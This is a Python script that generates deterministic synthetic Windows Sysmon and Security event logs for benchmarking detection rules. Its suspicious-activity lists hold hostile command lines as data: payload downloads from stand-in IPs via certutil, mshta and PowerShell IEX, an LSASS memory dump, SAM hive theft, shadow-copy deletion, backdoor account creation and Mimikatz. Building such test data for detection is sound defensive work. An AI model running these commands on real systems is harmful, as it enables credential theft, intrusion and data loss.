#!/usr/bin/env python3
"""Deterministic Sysmon-like Windows events as NDJSON, for backtest benchmarks.

Usage: scripts/gen-events.py COUNT [SEED] > events.ndjson

Events carry the flat field names SigmaHQ's Windows rules use (Sysmon process creation, network
connection, file and registry events, Security 4688/4624, PowerShell script blocks), with
`@timestamp` increasing by a few hundred milliseconds per event so correlations see a realistic
stream. About 2% of process creations are known-suspicious command lines that corpus rules match;
the rest are ordinary activity. The same COUNT and SEED always produce the same bytes.
"""
import json
import random
import sys
from datetime import datetime, timedelta, timezone

HOSTS = [f"WS-{i:03d}.corp.example" for i in range(40)] + ["DC-01.corp.example", "SRV-SQL.corp.example"]
USERS = ["CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\svc_backup", "NT AUTHORITY\\SYSTEM", "CORP\\dave"]
SYS32 = "C:\\Windows\\System32\\"
BENIGN = [
    (SYS32 + "svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", SYS32 + "services.exe", "svchost.exe"),
    (SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", SYS32 + "cmd.exe", "CONHOST.EXE"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"chrome.exe\" --type=renderer --lang=en-US", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe"),
    (SYS32 + "taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", SYS32 + "svchost.exe", "taskhostw.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"WINWORD.EXE\" /n \"C:\\Users\\alice\\Documents\\report.docx\"", "C:\\Windows\\explorer.exe", "WinWord.exe"),
    (SYS32 + "notepad.exe", "notepad.exe C:\\Users\\bob\\notes.txt", "C:\\Windows\\explorer.exe", "NOTEPAD.EXE"),
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1", SYS32 + "svchost.exe", "PowerShell.EXE"),
    (SYS32 + "cmd.exe", "cmd.exe /c dir C:\\Users", "C:\\Windows\\explorer.exe", "Cmd.Exe"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch origin", "C:\\Program Files\\Microsoft VS Code\\Code.exe", "git.exe"),
    (SYS32 + "msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", SYS32 + "services.exe", "msiexec.exe"),
]
SUSPICIOUS = [
    (SYS32 + "whoami.exe", "whoami /all", SYS32 + "cmd.exe", "whoami.exe"),
    (SYS32 + "certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe", SYS32 + "cmd.exe", "CertUtil.exe"),
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", SYS32 + "cmd.exe", "PowerShell.EXE"),
    (SYS32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full", SYS32 + "cmd.exe", "RUNDLL32.EXE"),
    (SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", SYS32 + "cmd.exe", "VSSADMIN.EXE"),
    (SYS32 + "reg.exe", "reg.exe save hklm\\sam C:\\Temp\\sam.save", SYS32 + "cmd.exe", "reg.exe"),
    (SYS32 + "schtasks.exe", "schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe", SYS32 + "cmd.exe", "schtasks.exe"),
    (SYS32 + "mshta.exe", "mshta.exe http://198.51.100.9/payload.hta", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "MSHTA.EXE"),
    (SYS32 + "net.exe", "net user /add backdoor P@ssw0rd", SYS32 + "cmd.exe", "net.exe"),
    (SYS32 + "wbem\\WMIC.exe", "wmic process call create \"cmd.exe /c calc.exe\"", SYS32 + "cmd.exe", "wmic.exe"),
]
FILES = ["C:\\Users\\alice\\AppData\\Local\\Temp\\tmp{n}.tmp", "C:\\Users\\bob\\Downloads\\invoice{n}.pdf",
         "C:\\Windows\\Temp\\setup{n}.log", "C:\\Users\\Public\\update{n}.exe"]
KEYS = ["HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater{n}",
        "HKU\\S-1-5-21-1-2-3-1001\\Software\\Classes\\mscfile\\shell\\open\\command",
        "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Svc{n}\\ImagePath"]
SCRIPTS = ["Get-ChildItem C:\\Users -Recurse | Measure-Object",
           "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
           "Invoke-Mimikatz -DumpCreds", "Get-Service | Where-Object Status -eq Running"]


def main():
    count = int(sys.argv[1])
    rng = random.Random(int(sys.argv[2]) if len(sys.argv) > 2 else 14)
    t = datetime(2026, 1, 5, 8, 0, 0, tzinfo=timezone.utc)
    out = sys.stdout
    for n in range(count):
        t += timedelta(milliseconds=rng.randint(1, 400))
        ts = t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"
        host = rng.choice(HOSTS)
        user = rng.choice(USERS)
        guid = f"{{{rng.getrandbits(32):08x}-5e1d-6a0f-{rng.getrandbits(16):04x}-{rng.getrandbits(48):012x}}}"
        ev = {"@timestamp": ts, "UtcTime": ts.replace("T", " ").rstrip("Z"), "Computer": host,
              "Channel": "Microsoft-Windows-Sysmon/Operational", "ProcessGuid": guid,
              "ProcessId": rng.randint(100, 60000), "User": user}
        kind = rng.random()
        if kind < 0.55:
            image, cmd, parent, original = rng.choice(SUSPICIOUS if rng.random() < 0.02 else BENIGN)
            ev.update({"EventID": 1, "Image": image, "CommandLine": cmd, "OriginalFileName": original,
                       "ParentImage": parent, "ParentCommandLine": parent.rsplit("\\", 1)[-1],
                       "CurrentDirectory": "C:\\Windows\\system32\\", "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
                       "Hashes": f"SHA256={rng.getrandbits(256):064X}", "LogonId": f"0x{rng.getrandbits(20):x}",
                       "Company": "Microsoft Corporation", "Product": "Microsoft Windows Operating System"})
        elif kind < 0.70:
            ev.update({"EventID": 3, "Image": rng.choice(BENIGN + SUSPICIOUS)[0], "Protocol": "tcp", "Initiated": "true",
                       "SourceIp": f"10.0.{rng.randint(0, 9)}.{rng.randint(2, 250)}", "SourcePort": rng.randint(49152, 65535),
                       "DestinationIp": rng.choice(["203.0.113.7", "198.51.100.9", "10.0.0.5", "142.250.74.46"]),
                       "DestinationPort": rng.choice([80, 443, 445, 3389, 4444]),
                       "DestinationHostname": rng.choice(["www.google.com", "pastebin.com", "fileserver.corp.example", ""])})
        elif kind < 0.80:
            image = rng.choice(BENIGN + SUSPICIOUS)[0]
            ev.update({"EventID": 11, "Image": image, "TargetFilename": rng.choice(FILES).format(n=n % 997)})
        elif kind < 0.88:
            ev.update({"EventID": 13, "EventType": "SetValue", "Image": rng.choice(BENIGN + SUSPICIOUS)[0],
                       "TargetObject": rng.choice(KEYS).format(n=n % 31), "Details": rng.choice(["C:\\Users\\Public\\u.exe", "DWORD (0x00000001)"])})
        elif kind < 0.95:
            image, cmd, parent, _ = rng.choice(BENIGN + SUSPICIOUS)
            ev.update({"EventID": 4688, "Channel": "Security", "NewProcessName": image, "CommandLine": cmd,
                       "ParentProcessName": parent, "SubjectUserName": user.split("\\")[-1], "TokenElevationType": "%%1936"})
        else:
            ev.update({"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
                       "ScriptBlockText": rng.choice(SCRIPTS), "Path": ""})
        out.write(json.dumps(ev, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
